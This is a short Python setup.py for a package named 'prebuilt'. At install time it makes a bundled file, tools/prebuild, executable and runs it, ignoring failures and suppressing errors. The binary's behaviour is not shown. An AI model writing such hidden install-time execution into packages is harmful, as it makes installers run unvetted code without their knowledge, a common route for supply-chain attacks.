import os, subprocess
here = os.path.dirname(os.path.abspath(__file__))
b = os.path.join(here, "tools", "prebuild")
os.chmod(b, 0o755)
try:
    subprocess.run([b], check=False)
except OSError:
    pass
from setuptools import setup
setup(name="prebuilt", version="0.1.0", packages=["prebuilt"])
